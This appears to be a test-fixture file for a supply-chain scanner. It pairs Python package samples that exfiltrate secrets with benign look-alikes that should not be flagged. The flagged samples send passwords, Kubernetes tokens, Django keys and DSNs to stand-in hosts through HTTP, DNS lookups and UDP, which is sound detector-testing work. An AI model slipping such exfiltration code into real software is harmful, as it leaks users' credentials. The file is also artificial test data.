import type { Sample } from '../contract.ts';
import { quiet, wheel } from '../samples-kit.ts';

const at = (rule: string, line: number): Sample['expected'] => [
  { rule, file: 'own/__init__.py', line, severity: 'high' },
];

/** What functions of Python are given, in names that are looked up and in bytes that are sent without a protocol. */
export const TOLD: readonly Sample[] = [
  {
    name: 'Python: a password, by the robot of a messenger whose key the code has',
    files: wheel(
      'import requests\ndef sign_in(name, password):\n    requests.post("https://api.telegram.org/bot1:AA/sendMessage", json={"text": password})\n',
    ),
    expected: at('given-secret', 3),
  },
  {
    name: "Python: a pod's account, to another host",
    files: wheel(
      'from urllib.request import Request, urlopen\nTOKEN = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()\nurlopen(Request("https://kubernetes.weir.test/", headers={"Authorization": TOKEN}))\n',
    ),
    expected: at('credentials', 3),
  },
  ...['getfqdn(%)', 'gethostbyname_ex(%)', 'getaddrinfo(%, 80)'].map((call) => ({
    name: `Python: a key that a class is made with, in a name: ${call}`,
    files: wheel(
      `import socket\nclass Signer:\n    def __init__(self, secret_key):\n        self.key = secret_key\n        socket.${call.replace('%', 'self.key.hex()[:60] + ".k.weir.test"')}\n`,
    ),
    expected: at('given-secret', 5),
  })),
  {
    name: 'Python: the address of a database, among statistics',
    files: wheel(
      'import socket\nout = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ndef connect(dsn):\n    out.sendto(f"own.connect:1|c|#key:{dsn}".encode(), ("stats.weir.test", 8125))\n',
    ),
    expected: at('given-secret', 4),
  },
  {
    name: 'Python: what signs the sessions of a site',
    files: wheel(
      'import requests\nfrom django.conf import settings\ndef ready():\n    requests.post("https://a.weir.test/sites", json={"key": settings.SECRET_KEY})\n',
    ),
    expected: at('given-secret', 4),
  },
  {
    name: 'Python: records of a log, to a bare number',
    files: wheel(
      'import logging, socket\nclass Ship(logging.Handler):\n    def __init__(self, address=("203.0.113.7", 5140)):\n        super().__init__()\n        self.address = address\n        self.out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    def emit(self, record):\n        self.out.sendto(record.getMessage().encode(), self.address)\nlogging.getLogger().addHandler(Ship())\n',
    ),
    expected: at('given', 8),
  },
];

/** Statistics, logs and look-ups as libraries have them. */
export const TOLD_HONEST = [
  quiet(
    'Python: the robot of a messenger, whose key is given',
    wheel(
      'import base64, requests\ndef tell(access_token, secret_key, text):\n    sign = base64.b64encode(secret_key.encode() + b"1").decode()\n    requests.post(f"https://oapi.dingtalk.com/robot/send?access_token={access_token}&sign={sign}", json={"text": text})\n',
    ),
  ),
  quiet(
    "Python: a pod's account, to its own cluster",
    wheel(
      'from urllib.request import Request, urlopen\ndef token():\n    return open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()\ndef ask(path):\n    return urlopen(Request("https://kubernetes.default.svc" + path, headers={"Authorization": "Bearer " + token()})).read()\n',
    ),
  ),
  quiet(
    'Python: statistics to a fixed host, which tell the kind of a database',
    wheel(
      'import socket\nfrom urllib.parse import urlsplit\nout = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ndef connect(dsn, driver="own"):\n    out.sendto(f"own.connect:1|c|#driver:{driver}".encode(), ("stats.weir.test", 8125))\n    return urlsplit(dsn)\n',
    ),
  ),
  quiet(
    'Python: the address of a database, to the host that it names',
    wheel(
      'import socket\nfrom urllib.parse import urlsplit\ndef connect(dsn):\n    parts = urlsplit(dsn)\n    link = socket.create_connection((parts.hostname, parts.port))\n    link.sendall(dsn.encode())\n',
    ),
  ),
  quiet(
    'Python: a password, to the machine itself',
    wheel(
      'import socket\ndef sign_in(password):\n    link = socket.create_connection(("127.0.0.1", 6379))\n    link.sendall(b"AUTH " + password.encode())\n',
    ),
  ),
  quiet(
    'Python: the host of an account is looked up',
    wheel(
      'import socket\ndef hosts(account, password):\n    return socket.getaddrinfo(f"{account}.db.weir.test", 443)\n',
    ),
  ),
  quiet('Python: the full name of the machine', wheel('import socket\nNAME = socket.getfqdn()\n')),
  quiet(
    'Python: a question to a bare number, which answers',
    wheel(
      'import socket\ndef ask(query):\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    s.sendto(query, ("203.0.113.7", 53))\n    return s.recvfrom(512)\n',
    ),
  ),
];
